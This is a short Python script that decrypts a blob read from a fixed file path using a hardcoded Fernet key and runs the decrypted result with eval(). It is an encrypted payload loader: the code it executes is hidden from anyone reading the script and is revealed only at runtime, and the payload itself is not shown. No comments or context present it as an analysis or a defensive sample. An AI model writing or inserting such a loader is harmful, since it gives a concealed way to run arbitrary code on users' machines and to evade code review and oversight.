from cryptography.fernet import Fernet

cipher = Fernet(b"mC3xQq1bqk5G8l8m0p7m7m5m7m5m7m5m7m5m7m5m7m4=")


class Stage:
    def __init__(self, blob):
        self.blob = blob

    def open(self):
        return cipher.decrypt(self.blob)


def boot(stage):
    eval(stage.open())


boot(Stage(open("/opt/python/x/data", "rb").read()))
